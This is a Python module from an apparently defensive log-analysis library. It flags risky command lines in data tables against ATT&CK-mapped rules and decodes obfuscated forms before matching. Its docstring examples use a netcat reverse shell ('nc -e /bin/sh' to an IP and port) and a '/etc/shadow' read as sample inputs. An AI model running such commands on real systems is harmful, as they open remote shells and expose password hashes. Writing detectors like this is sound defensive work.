"""Risky command lines in tables: which rows match which rules, with the reason and where."""

from __future__ import annotations

from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import TYPE_CHECKING, Any

from flowsleuth.errors import OptionError
from flowsleuth.extract.command_lines.matching import match_rules
from flowsleuth.extract.command_lines.rule import SEVERITIES, RuleSet, bundled_rules, load_rules
from flowsleuth.extract.command_lines.views import ESCAPES_REMOVED, offset_as_written, views
from flowsleuth.schema.tabular import column_names, like, need_columns, row_labels, text_column

if TYPE_CHECKING:
    import pyarrow as pa

COLUMN_NAMES = (
    "command_line", "CommandLine", "Command", "cmdline", "ProcessCommandLine", "CreatedProcessCommandLine",
    "process.command_line", "process_command_line", "InitiatingProcessCommandLine", "proctitle", "cmd",
)  # fmt: skip
"""What columns of command lines are called here and elsewhere, the surest first."""
COLUMNS = (
    "row", "column", "severity", "rule", "title", "technique", "reason", "matched", "offset", "decode_path",
    "decoded_text", "command_line",
)  # fmt: skip
NOT_WHOLE = "not-looked-at-as-a-whole"
"""What stands for a rule in the row of a cell of which a part was not looked at."""
LONGEST_DECODED = 10_000
"""Characters of a decoded text that are kept beside a match in it."""
_LOG_TYPES = {"syslog": "linux", "linux": "linux", "auditd": "linux", "windows": "windows", "securityevent": "windows"}


def risky_commands(
    data: Any,
    columns: str | Sequence[str] | None = None,
    *,
    rules: RuleSet | None = None,
    platform: str | None = None,
    least: str = "low",
    decode: bool = True,
) -> Any:
    """Command lines that match a rule, with the reason, the ATT&CK technique, and where.

    Each distinct command line is looked at once: as written, with what is encoded in it decoded, with PowerShell's
    constant expressions worked out, and without the carets, backticks and quotes that break words up. Of several ways
    to the same rule the first of these is told.

    Parameters
    ----------
    data : pandas.DataFrame, polars.DataFrame, pyarrow.Table
        It is not changed. Null, numbers and any text are harmless.
    columns : str or sequence of str, optional
        Columns of command lines; the first of :data:`COLUMN_NAMES` that is there.
    rules : RuleSet, optional
        Instead of the bundled ones; ``bundled_rules() + load_rules("own.yaml")`` are both.
    platform : str, optional
        ``windows`` or ``linux``: only rules for it, and those for any.
    least : str
        ``low``, ``medium`` or ``high``: only rules of at least this severity.
    decode : bool
        Look into base64, hex, UTF-16, archives and PowerShell's constant expressions too.

    Returns
    -------
    table of the same make
        A row for each rule that a cell matches: :data:`COLUMNS`. ``row`` is the row's label (pandas' index, else its
        number); ``offset`` is in characters of the cell, for decoded text where its encoded form begins, for one that
        was worked out 0;
        ``decode_path`` and ``decoded_text`` are null where the cell matches as it is written. By row, the most severe
        first.

    Raises
    ------
    OptionError
        No such column, platform or severity.

    Notes
    -----
    A rule sees one line of text, not who started it nor what it did. That nothing matches does not mean that nothing
    is wrong. Of what is encoded, 8 MiB a command line and 256 MiB a call are looked at. A cell of which a part was not
    looked at has a row that says so and why, whatever was asked for: ``rule`` is :data:`NOT_WHOLE`, ``matched`` null.

    Examples
    --------
    >>> import pandas
    >>> lines = pandas.DataFrame({"Command": ["ls", None, "nc -e /bin/sh 192.0.2.7 4444"]}, index=["a", "b", "c"])
    >>> risky_commands(lines, "Command")[["row", "severity", "rule", "technique", "offset"]].values.tolist()
    [['c', 'high', 'reverse-shell-netcat', 'T1059.004, T1095', 0]]
    """
    import pyarrow as pa

    chosen = _chosen(data, columns)
    used = (bundled_rules() if rules is None else rules).only(platform=platform, least=least)
    labels = row_labels(data)
    found = [_of_column(text_column(data, name), name, labels, used, decode) for name in chosen]
    table = pa.concat_tables(found)
    keys: list[tuple[str, str]] = [("_at", "ascending"), ("_severity", "descending"), ("_rule", "ascending")]
    return like(table.sort_by(keys).select(list(COLUMNS)), data)


def risky_cmd_line(
    events: Any,
    log_type: str | None = None,
    detection_rules: str | Path | Iterable[str | Path] | None = None,
    cmd_field: str = "Command",
) -> Any:
    """:func:`risky_commands` with the arguments that MSTICPy's users know.

    Parameters
    ----------
    events : table
    log_type : str, optional
        ``Syslog`` and ``auditd`` ask the rules for Linux, ``SecurityEvent`` those for Windows; all when not given.
    detection_rules : path or paths, optional
        Files or folders of rules, instead of the bundled ones.
    cmd_field : str

    Raises
    ------
    OptionError
        No such column or log type; a rule file is not right.

    Examples
    --------
    >>> import pandas
    >>> sudo = pandas.DataFrame({"Command": ["apt-get install curl openssh-server", "cat /etc/shadow"]})
    >>> risky_cmd_line(sudo, "Syslog")["rule"].tolist()
    ['shadow-read']
    """
    platform = None if log_type is None else _LOG_TYPES.get(log_type.casefold())
    if log_type is not None and platform is None:
        raise OptionError("no such log type", where=log_type, available=sorted(_LOG_TYPES))
    rules = None if detection_rules is None else load_rules(detection_rules)
    return risky_commands(events, cmd_field, rules=rules, platform=platform)


def known_column(data: Any) -> str:
    """The column of command lines, by the names such columns have.

    Raises
    ------
    OptionError
        None is known.

    Examples
    --------
    >>> import pyarrow as pa
    >>> known_column(pa.table({"pid": [4], "CommandLine": ["whoami"]}))
    'CommandLine'
    """
    there = column_names(data)
    for name in COLUMN_NAMES:
        if name in there:
            return name
    raise OptionError("no column that is known to hold command lines", available=there, hint="name the column")


def _chosen(data: Any, columns: str | Sequence[str] | None) -> list[str]:
    if columns is None:
        return [known_column(data)]
    chosen = [columns] if isinstance(columns, str) else list(columns)
    need_columns(data, chosen)
    if not chosen:
        raise OptionError("no columns", available=column_names(data))
    return list(dict.fromkeys(chosen))


def _of_column(column: pa.ChunkedArray, name: str, labels: pa.Array, rules: RuleSet, decode: bool) -> pa.Table:
    """The matches of one column, a row for each cell and rule."""
    import pyarrow as pa

    coded = column.combine_chunks().dictionary_encode()
    found = _of_distinct(coded.dictionary, rules, decode)
    at, match = _rows_with(coded.indices, found["source"])
    found = found.take(match)
    told = {
        "row": labels.take(at),
        "column": pa.repeat(pa.scalar(name, pa.string()), len(at)),
        "_at": at,
        **{name: found[name] for name in found.column_names if name != "source"},
    }
    return pa.table(told)


def _of_distinct(texts: pa.Array, rules: RuleSet, decode: bool) -> pa.Table:
    """The matches of texts that differ: the first view of a text that matches a rule, with the rule's words."""
    import pyarrow as pa
    import pyarrow.compute as pc

    seen = views(texts, decode=decode)
    stops = _stopped(seen, texts, len(rules))
    coded = seen["text"].combine_chunks().dictionary_encode()
    matches = match_rules(coded.dictionary, rules)
    view, match = _rows_with(coded.indices, matches["text"])
    matches, seen = matches.take(match), seen.take(view)
    both = pa.table({"source": seen["source"], "_rule": matches["rule"], "view": view})
    first = both.group_by(["source", "_rule"]).aggregate([("view", "min")])
    place = pc.index_in(_pairs(first["view_min"], first["_rule"]), _pairs(both["view"], both["_rule"]))
    matches, seen = matches.take(place), seen.take(place)
    written = texts.take(seen["source"].combine_chunks())
    is_told = pc.is_valid(seen["path"])
    hits = pa.table(
        {
            "source": seen["source"],
            **_words_of(matches["rule"], rules),
            "matched": matches["matched"],
            "offset": _offsets(matches["offset"], seen, written),
            "decode_path": seen["path"],
            "decoded_text": pc.if_else(is_told, pc.utf8_slice_codeunits(seen["text"], 0, LONGEST_DECODED), None),
            "command_line": written,
        }
    )
    return pa.concat_tables([hits, stops.select(hits.column_names).cast(hits.schema)])


def _stopped(seen: pa.Table, texts: pa.Array, last: int) -> pa.Table:
    """A row for each text of which a part was not looked at, with the first reason; it comes after its matches."""
    import pyarrow as pa
    import pyarrow.compute as pc

    stopped = seen.filter(pc.is_valid(seen["stopped"])).combine_chunks()
    asked = [(name, "first") for name in ("path", "offset", "stopped")]
    first = stopped.group_by("source", use_threads=False).aggregate(asked)
    same = {"_severity": 0, "_rule": last, "severity": SEVERITIES[0], "rule": NOT_WHOLE, "technique": ""}
    same |= {"title": "Not looked at as a whole"}
    return pa.table(
        {
            "source": first["source"],
            **{name: pa.repeat(pa.scalar(value), len(first)) for name, value in same.items()},
            "reason": first["stopped_first"],
            "matched": pa.nulls(len(first), pa.string()),
            "offset": pc.fill_null(first["offset_first"], 0),
            "decode_path": first["path_first"],
            "decoded_text": pa.nulls(len(first), pa.string()),
            "command_line": texts.take(first["source"].combine_chunks()),
        }
    )


def _pairs(view: pa.ChunkedArray, rule: pa.ChunkedArray) -> pa.ChunkedArray:
    """A number for each pair."""
    import pyarrow.compute as pc

    return pc.add(pc.multiply(view, 1_000_000), rule)


def _words_of(numbers: pa.ChunkedArray, rules: RuleSet) -> dict[str, pa.Array]:
    """What rules say, for each match."""
    import pyarrow as pa

    words = {
        "_severity": [SEVERITIES.index(rule.severity) for rule in rules.rules],
        "_rule": list(range(len(rules))),
        "severity": [rule.severity for rule in rules.rules],
        "rule": [rule.id for rule in rules.rules],
        "title": [rule.title for rule in rules.rules],
        "technique": [", ".join(rule.techniques) for rule in rules.rules],
        "reason": [rule.reason for rule in rules.rules],
    }
    kinds = {name: pa.int64() if name.startswith("_") else pa.string() for name in words}
    return {name: pa.array(values, kinds[name]).take(numbers) for name, values in words.items()}


def _offsets(offset: pa.ChunkedArray, seen: pa.Table, written: pa.Array) -> pa.Array:
    """Offsets in the cell: for decoded text where its encoded form begins, for text without escapes counted back."""
    import pyarrow as pa
    import pyarrow.compute as pc

    kept = pc.coalesce(seen["offset"], offset).to_numpy().copy()
    is_plain = pc.fill_null(pc.equal(seen["path"], ESCAPES_REMOVED), False)
    for at in pc.indices_nonzero(is_plain).to_pylist():
        kept[at] = offset_as_written(written[at].as_py(), seen["text"][at].as_py(), int(kept[at]))
    return pa.array(kept, pa.int64())


def _rows_with(codes: pa.Array, wanted: pa.ChunkedArray) -> tuple[pa.Array, pa.Array]:
    """For each wanted code every row that has it: numbers of the rows, and of the wanted."""
    import numpy as np
    import pyarrow as pa
    import pyarrow.compute as pc

    plain = pc.fill_null(codes.cast(pa.int64()), -1).to_numpy(zero_copy_only=False)
    order = np.argsort(plain, kind="stable")
    in_order = plain[order]
    codes_wanted = wanted.to_numpy()
    first = np.searchsorted(in_order, codes_wanted, "left")
    counts = np.searchsorted(in_order, codes_wanted, "right") - first
    match = np.repeat(np.arange(len(codes_wanted)), counts)
    within = np.arange(counts.sum()) - np.repeat(np.cumsum(counts) - counts, counts)
    return pa.array(order[np.repeat(first, counts) + within], pa.int64()), pa.array(match, pa.int64())
